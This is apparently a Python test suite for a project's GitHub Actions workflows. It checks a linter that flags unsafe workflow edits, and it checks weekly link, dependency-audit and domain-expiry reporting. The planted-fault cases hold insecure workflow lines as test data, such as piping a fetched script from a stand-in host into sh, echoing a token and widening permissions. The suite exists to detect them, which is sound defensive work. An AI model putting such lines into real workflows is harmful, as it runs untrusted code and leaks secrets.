"""The workflows: what none may do, and their very steps, run in bash with stand-ins of the programs they call."""

import json
import re
import shutil
from pathlib import Path

import pytest

from tests.project import ROOT
from tests.workflows import NAMES, WRITES, faults, program, run, steps, text_of

SOUND = "ALARM: a crisis service is wrong."
MAKE = """if [ "$1" = drill ]; then printf '%s\\n' "$DRILL"; exit 2; fi
printf '%s\\n' "$TABLE"; exit "$CODE"
"""
GH = 'printf "%s\\n" "$@" >said.txt'


def test_every_workflow_is_known_here() -> None:
    assert sorted(WRITES) == NAMES


@pytest.mark.parametrize("name", NAMES)
def test_workflow_has_no_more_rights_than_it_needs_and_runs_nothing_unpinned(name: str) -> None:
    assert [] == list(faults(name, text_of(name)))
    assert "pull_request_target" not in text_of(name)


@pytest.mark.parametrize(
    ("old", "new", "told"),
    [
        ("  workflow_dispatch:\n", "  pull_request_target:\n", "must start by hand alone"),
        ("  workflow_dispatch:\n", "  push:\n", "must start by hand alone"),
        ("  contents: read\n", "  contents: write\n", "must write [] alone"),
        ("permissions:\n  contents: read\n", "permissions: write-all\n", "must name its permissions"),
        ("permissions:\n  contents: read\n", "", "must name its permissions"),
        ("    timeout-minutes: 60\n", "", "a limit of time"),
        ("ubuntu-24.04", "ubuntu-latest", "one named machine"),
        ("    environment: netlify # who may start it, and the secrets, are set there\n", "", "an environment"),
        ("      WHAT: ${{ inputs.what }}\n", "      WHAT: ${{ secrets.ALL }}\n", "the one step that needs it"),
        ("        run: |\n          gh auth", "        uses: actions/checkout@v4\n        x: |\n          gh auth", "pinned by its commit"),
        ('"$WHAT" = rollback', '"${{ inputs.what }}" = rollback', "it could be a command itself"),
        ("          part=site\n", "          echo $TOKEN\n", "piped to curl's standard input"),
        ("curl --config -", 'curl -H "Authorization: Bearer $TOKEN"', "piped to curl's standard input"),
        ("          part=site\n", "          set -x\n", "nothing may print its secrets"),
        ("          part=site\n", "          curl https://other.example/x | sh\n", "or run what it fetched"),
        ("          part=site\n", "          pip install netlify\n", "pip must install from a lock"),
        ("          part=site\n", "          pip3 install netlify\n", "pip must install from a lock"),
        ("          part=site\n", "          python3 -m pip --quiet \\\n            install netlify\n", "pip must install from a lock"),
        ("          part=site\n", "          pipx run netlify\n", "pip must install from a lock"),
        ("    runs-on:", "    container: python:latest\n    runs-on:", "in no container"),
        ("    runs-on:", "    services: {db: {image: postgres}}\n    runs-on:", "in no container"),
        ("defaults:\n", "env: {ALL: '${{ secrets.ALL }}'}\ndefaults:\n", "the one step that needs it"),
        ("        if: inputs.what != 'rollback'\n", "        env: {T: '${{ secrets.T }}'}\n", "names it in its commands"),
        ("        if: inputs.what != 'rollback'\n", "        with: {T: '${{ secrets.T }}'}\n", "no other way"),
        ("          part=site\n", "          npx netlify-cli deploy\n", "npm must install from a lock"),
    ],
)  # fmt: skip
def test_planted_fault_is_told(old: str, new: str, told: str) -> None:
    text = text_of("netlify")
    assert old in text
    assert [True] == [told in fault for fault in faults("netlify", text.replace(old, new, 1))]


# ---- the weekly alarm, from verdict to report ----


@pytest.mark.parametrize(
    ("table", "code", "drill", "verdict"),
    [
        ("ALL WELL", "0", SOUND, "ALL WELL"),
        ("ALL WELL", "0", "ALL WELL", "ALARM NOT PROVEN"),
        ("ALL WELL", "0", "LOOK: a wall", "ALARM NOT PROVEN"),
        ("ALL WELL", "2", SOUND, "NOT RUN"),
        ("LOOK: a person must look.", "2", SOUND, "LOOK"),
        ("ALARM: wrong.", "2", SOUND, "ALARM"),
        ("NOT RUN: no network", "2", "NOT RUN: no network", "NOT RUN"),
        ("make: *** no rule", "2", "", "NOT RUN"),
    ],
)
def test_verdict_and_report(tmp_path: Path, table: str, code: str, drill: str, verdict: str) -> None:
    """Only a check that ended well, and was just seen to cry out over a planted fault, is passed without a report."""
    program(tmp_path / "make", MAKE)
    program(tmp_path / "gh", GH)
    looked = run("links", "Look at every provider's page", tmp_path, TABLE=table, CODE=code, DRILL=drill)
    assert 0 == looked.returncode
    assert f"verdict={verdict}" == (tmp_path / "output").read_text(encoding="utf-8").splitlines()[-1]
    assert "steps.look.outputs.verdict != 'ALL WELL'" == steps(text_of("links"))["Open a report"]["if"]
    told = run("links", "Open a report", tmp_path, VERDICT=verdict, RUN="https://example.test/run")
    assert 0 == told.returncode
    said, report = ((tmp_path / name).read_text(encoding="utf-8") for name in ("said.txt", "report.md"))
    assert f"Link check: {verdict}, " in said
    assert (True, True) == (verdict in report, table in report)
    assert (0 if verdict == "ALL WELL" else 1) == run("links", "End as it went", tmp_path, VERDICT=verdict).returncode


# ---- the weekly look at packages, hosts and the name ----


@pytest.fixture
def week(tmp_path: Path) -> Path:
    """A folder with two locks, and stand-ins that find nothing."""
    for name in ("requirements.txt", "requirements-test.txt", "deploy/waivers.txt"):
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).touch()
    shutil.copy(ROOT / "deploy/compare.sh", tmp_path / "deploy")
    (tmp_path / "deploy/cloudflare").mkdir()
    program(tmp_path / ".audit/bin/pip-audit", 'echo "$@" >>asked.txt; exit "${WEAK:-0}"')
    program(tmp_path / "npm", 'exit "${NPM:-0}"')
    program(tmp_path / "date", 'if [ $# = 2 ]; then echo 2026-11-21; else exec /bin/date "$@"; fi')
    program(tmp_path / "gh", GH)
    return tmp_path


@pytest.mark.parametrize(("found", "verdict"), [({}, "ALL WELL"), ({"WEAK": "1"}, "LOOK"), ({"NPM": "1"}, "LOOK")])
def test_every_lock_is_looked_at_and_a_weak_spot_is_told(week: Path, found: dict[str, str], verdict: str) -> None:
    done = run("weekly", "Look for known weak spots", week, **found)
    asked = (week / "asked.txt").read_text("utf-8").splitlines()
    assert (0, f"{verdict}\n") == (done.returncode, done.stdout)
    assert {"requirements.txt", "requirements-test.txt"} == {line.split()[-1] for line in asked}
    assert all("--strict --require-hashes --disable-pip" in line for line in asked)


def test_a_waiver_counts_until_its_day_and_with_a_reason(week: Path) -> None:
    """A word compares as later than any day, and a day without end is none: 90 days ahead is the last."""
    good = ["A-1 2026-11-22 it is not called", "A-9 2027-02-19 the last day that there is"]
    bad = """
    B-1 2026-11-21 its day has come
    B-2 2026-12-31
    B-3 never it is not called
    B-4 soon x
    B-5 9999-12-31 far
    B-6 2027-02-20 a day too far
    B-7 2026-12-32 no day
    B-8 tomorrow it moves
    B-9
    """
    (week / "deploy/waivers.txt").write_text("\n".join(["# a comment", *good, bad, ""]), "utf-8")
    done = run("weekly", "Look for known weak spots", week)
    asked = (week / "asked.txt").read_text("utf-8").splitlines()
    assert {("A-1", "A-9")} == {tuple(word for word in line.split() if re.match("[AB]-", word)) for line in asked}
    told = [line.partition(" is not passed over: ")[0] for line in (week / "weak.txt").read_text("utf-8").splitlines()]
    assert (0, [f"B-{number}" for number in range(1, 10)]) == (done.returncode, told[:9])


@pytest.mark.parametrize(
    ("day", "verdict"), [("2999-01-01", "ALL WELL"), ("2020-01-01", "LOOK"), ("no day", "LOOK"), (None, "LOOK")]
)
def test_a_name_that_runs_out_is_told(week: Path, day: str | None, verdict: str) -> None:
    if day:
        events = [{"eventAction": "registration", "eventDate": "2019-01-01T00:00:00Z"}]
        record = {"events": [*events, {"eventAction": "expiration", "eventDate": f"{day}T00:00:00Z"}]}
        (week / "kept.json").write_text(json.dumps(record), "utf-8")
    program(week / "curl", "cp kept.json record.json")
    done = run("weekly", "See how long the name is ours", week, RECORD="https://record.example/domain")
    assert (0, f"{verdict}\n") == (done.returncode, done.stdout)


@pytest.mark.parametrize(
    ("part", "step", "unset"),
    [
        ("hosts", "Compare the hosts", "STEADY_HOSTS is not set: no host was looked at"),
        ("domain", "See how long the name is ours", "STEADY_DOMAIN_RECORD is not set: the name was not looked up"),
    ],
)
def test_what_was_not_looked_at_is_not_well_and_no_alarm(week: Path, part: str, step: str, unset: str) -> None:
    for other in ("weak", "hosts", "domain"):
        (week / f"{other}.verdict").write_text("ALL WELL\n", "utf-8")
    looked = run("weekly", step, week, HOSTS="", RECORD="")
    assert (0, f"{unset}\nNOT LOOKED AT\n") == (looked.returncode, looked.stdout)
    told = run("weekly", "Open a report", week)
    assert (0, f"::warning::{unset}\n", False) == (told.returncode, told.stdout, (week / "said.txt").exists())
    (week / "weak.verdict").write_text("LOOK\n", "utf-8")
    assert 1 == run("weekly", "Open a report", week).returncode
    assert f"## {part}: NOT LOOKED AT\n" in (week / "report.md").read_text("utf-8")


@pytest.mark.parametrize("bad", [None, "weak", "hosts", "domain"])
def test_whatever_is_not_well_is_reported(week: Path, bad: str | None) -> None:
    for part in ("weak", "hosts", "domain"):
        (week / f"{part}.verdict").write_text("LOOK\n" if part == bad else "ALL WELL\n", "utf-8")
        (week / f"{part}.txt").write_text(f"words of {part}", "utf-8")
    done = run("weekly", "Open a report", week)
    assert (int(bad is not None), bad is not None) == (done.returncode, (week / "said.txt").exists())
    if bad:
        assert f"## {bad}: LOOK\n\n```text\nwords of {bad}" in (week / "report.md").read_text("utf-8")
